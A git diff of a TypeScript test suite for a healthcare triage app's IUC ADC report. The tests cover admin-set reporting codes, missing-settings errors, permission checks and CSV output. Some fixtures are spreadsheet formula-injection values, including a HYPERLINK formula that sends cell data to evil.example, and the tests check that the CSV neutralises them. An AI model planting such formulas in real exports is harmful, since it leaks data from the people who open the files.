@@ -16,6 +16,7 @@ import {
   type IucAdcReport,
 } from '../../src/reports/iuc-adc.ts';
 import { requireProtocolPack, SAMPLE_PACK_DIR } from '../../src/triage/packs.ts';
+import { signedInAdmin } from '../support/admin.ts';
 import { answersTo, caseAt } from '../support/cases.ts';
 import { STORE_KINDS } from '../support/databases.ts';
 import { Client, startTestApp, type TestApp } from '../support/http.ts';
@@ -60,6 +61,15 @@ const MARCH: Items = {
 const APRIL: Items = { ...ZERO, A01: 2, A03: 2, C01: 2, D01: 1, E01: 1, E02: 1 };
 /** February: the self-care call at 2026-02-28T23:59Z. */
 const FEBRUARY: Items = { ...ZERO, A01: 1, A03: 1, C01: 1, E01: 1, E16: 1 };
+
+/** Free-text settings that a spreadsheet would take for formulas: the CSV must neutralise them. */
+const NORTHSHIRE_SETTINGS = {
+  orgCode: 'NWX',
+  contractCode: 'NS-111',
+  contractName: '+SUM(1,2)',
+  regionCode: 'Y56',
+  regionName: '@cmd',
+};
 
 const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
 
@@ -136,6 +146,9 @@ describe('IUC ADC periods, items and CSV fields', () => {
   it('counts a re-triaged case once, by its latest disposition, and none while it is back in triage', () => {
     const one = (over: Partial<CaseTally>): CaseTally => ({
       dispositionKind: null,
+      dxCode: null,
+      outcome: null,
+      linked: 0,
       status: 'answered',
       calls: 1,
       answered: 1,
@@ -146,7 +159,7 @@ describe('IUC ADC periods, items and CSV fields', () => {
     });
     const items = valuesOf({
       items: iucAdcItems([
-        one({ dispositionKind: 'ed_utc', status: 'referral_pending', assessed: 1 }), // re-triaged to ED
+        one({ dispositionKind: 'ed_utc', dxCode: 'SAMPLE-ED-1H', status: 'referral_pending', assessed: 1 }), // re-triaged to ED
         one({ dispositionKind: 'speak_to_primary_care', status: 'in_triage', assessed: 1 }), // re-triaging
         one({ dispositionKind: 'contact_primary_care', status: 'queued' }),
         one({ dispositionKind: 'dental', status: 'referral_pending' }),
@@ -163,6 +176,7 @@ describe('IUC ADC periods, items and CSV fields', () => {
       E01: 3,
       E04: 1,
       E08: 1,
+      E12: 1,
     });
   });
 
@@ -269,19 +283,12 @@ describe.each(STORE_KINDS)('IUC ADC report on %s', (kind) => {
       reports,
       t.deps,
       built.registry,
-      reportRoutes(t.node.store, {
-        tenantFilter: true,
-        clock: t.clock,
-        identities: {
-          northshire: {
-            contractCode: 'NS-111',
-            contractName: '+SUM(1,2)',
-            regionCode: '-1',
-            regionName: '@cmd',
-          },
-        },
-      }),
+      reportRoutes(t.node.store, { tenantFilter: true, clock: t.clock }),
     );
+    // The provider's national identity is a setting its admin makes (stored as an event).
+    const admin = await signedInAdmin(t.app, t.clock, 'provider_admin@northshire');
+    const set = await admin.request('PUT', '/api/v1/admin/reporting-settings', NORTHSHIRE_SETTINGS);
+    expect(set.statusCode, set.body).toBe(200);
     await reports.ready();
     manager = onReports(managerMain);
     southManager = onReports(southManagerMain);
@@ -357,9 +364,10 @@ describe.each(STORE_KINDS)('IUC ADC report on %s', (kind) => {
       from: '2026-03-01T00:00:00.000Z',
       to: '2026-03-31T23:00:00.000Z',
       generatedAt: new Date(t.clock.nowMs()).toISOString(),
-      org: { code: 'northshire', name: 'northshire provider' },
-      contract: { code: 'UNKNOWN', name: 'UNKNOWN' },
-      region: { code: 'UNKNOWN', name: 'UNKNOWN' },
+      org: { code: 'NWX', name: 'northshire provider' },
+      contract: { code: 'NS-111', name: '+SUM(1,2)' },
+      region: { code: 'Y56', name: '@cmd' },
+      missingSettings: [],
       notice: expect.stringMatching(/E07 and E10.*0 until/),
     });
     const count = async (tenant: string, period: string) =>
@@ -382,7 +390,7 @@ describe.each(STORE_KINDS)('IUC ADC report on %s', (kind) => {
         tenantFilter: false,
       });
       expect(valuesOf(rlsOnly)).toEqual(MARCH);
-      expect(rlsOnly.org).toEqual({ code: 'northshire', name: 'northshire provider' });
+      expect(rlsOnly.org).toEqual({ code: 'NWX', name: 'northshire provider' });
     }
   });
 
@@ -394,7 +402,7 @@ describe.each(STORE_KINDS)('IUC ADC report on %s', (kind) => {
     expect(body).toMatchObject({
       period: '2026-03',
       generatedAt: new Date(t.clock.nowMs()).toISOString(),
-      org: { code: 'northshire', name: 'northshire provider' },
+      org: { code: 'NWX', name: 'northshire provider' },
       contract: { code: 'NS-111', name: '+SUM(1,2)' },
       items: expect.arrayContaining([{ item: 'E07', label: 'Contact primary care (bookable)', value: 0 }]),
       notice: expect.stringMatching(/booking/),
@@ -402,7 +410,14 @@ describe.each(STORE_KINDS)('IUC ADC report on %s', (kind) => {
     const april = await manager.request('GET', '/api/v1/reports/iuc-adc?period=2026-04&format=json');
     expect(valuesOf(april.json() as IucAdcReport)).toEqual(APRIL);
     const south = await southManager.request('GET', '/api/v1/reports/iuc-adc?period=2026-03');
-    expect(south.json()).toMatchObject({ org: { code: 'southshire', name: 'southshire provider' } });
+    // Southshire's admin set nothing: the report says what is missing instead of inventing codes.
+    expect(south.json()).toMatchObject({
+      org: { code: null, name: 'southshire provider' },
+      contract: { code: null, name: null },
+      region: { code: null, name: null },
+      missingSettings: ['orgCode', 'contractCode', 'contractName', 'regionCode', 'regionName'],
+      notices: expect.arrayContaining([expect.stringMatching(/ODS code.*refused until a provider admin/)]),
+    });
     expect(valuesOf(south.json() as IucAdcReport)).toMatchObject({ A01: 2, E16: 1, E04: 0 });
 
     const denied = await clinicianOnReports.request('GET', '/api/v1/reports/iuc-adc?period=2026-03');
@@ -421,16 +436,56 @@ describe.each(STORE_KINDS)('IUC ADC report on %s', (kind) => {
     expect(rows.slice(1)).toEqual(
       IUC_ADC_ITEMS.map((d) => [
         '2026-03',
-        'northshire',
+        'NWX',
         'northshire provider',
         'NS-111',
         "'+SUM(1,2)",
-        "'-1",
+        'Y56',
         "'@cmd",
         d.item,
         String(MARCH[d.item]),
       ]),
     );
+
+    // No national CSV while the provider's reporting settings are missing: 409 naming them.
+    const unset = await southManager.request('GET', '/api/v1/reports/iuc-adc?period=2026-03&format=csv');
+    expect(unset.statusCode, unset.body).toBe(409);
+    expect(unset.json()).toMatchObject({
+      code: 'conflict',
+      detail: expect.stringMatching(/ODS code.*contract area code.*region name not set/),
+    });
+    const southAdmin = await signedInAdmin(t.app, t.clock, 'provider_admin@southshire');
+    const set = await southAdmin.request('PUT', '/api/v1/admin/reporting-settings', {
+      orgCode: 'SSX',
+      contractCode: 'SS-1',
+      contractName: 'Southshire IUC',
+      regionCode: 'Y58',
+      regionName: 'South West',
+    });
+    expect(set.statusCode, set.body).toBe(200);
+    // Stored as an event; read back by the admin; bad codes named; not for a shift manager.
+    const read = await southAdmin.request('GET', '/api/v1/admin/reporting-settings');
+    expect(read.json()).toMatchObject({
+      settings: { orgCode: 'SSX', contractCode: 'SS-1', regionCode: 'Y58' },
+      missing: [],
+      setBy: expect.stringMatching(/^user:/),
+    });
+    const stored = (await t.node.ledger.readTenant('southshire', null, 100_000)).filter(
+      (e) => e.type === 'provider.reporting_settings_set',
+    );
+    expect(stored).toHaveLength(1);
+    const bad = await southAdmin.request('PUT', '/api/v1/admin/reporting-settings', { orgCode: 'not ods' });
+    expect(bad.statusCode).toBe(400);
+    expect(bad.json()).toMatchObject({
+      errors: [{ path: 'body.orgCode', message: expect.stringMatching(/ODS/) }],
+    });
+    const managerOnApp = new Client(t.app, t.clock);
+    managerOnApp.cookie = southManager.cookie;
+    managerOnApp.csrf = southManager.csrf;
+    const byManager = await managerOnApp.request('PUT', '/api/v1/admin/reporting-settings', {
+      orgCode: 'ABC',
+    });
+    expect(byManager.statusCode).toBe(403);
 
     // A provider whose name is a formula: quoted, quotes doubled, and neutralised with an apostrophe.
     await t.accounts.createTenant('southshire', HOSTILE_NAME, 'system:test');
@@ -443,12 +498,12 @@ describe.each(STORE_KINDS)('IUC ADC report on %s', (kind) => {
       expect(row).toHaveLength(IUC_ADC_CSV_HEADER.length);
       expect(row.slice(0, 7)).toEqual([
         '2026-03',
-        'southshire',
+        'SSX',
         `'${HOSTILE_NAME}`,
-        'UNKNOWN',
-        'UNKNOWN',
-        'UNKNOWN',
-        'UNKNOWN',
+        'SS-1',
+        'Southshire IUC',
+        'Y58',
+        'South West',
       ]);
     }
     expect(southRows.find((row) => row[7] === 'A01')?.[8]).toBe('2');
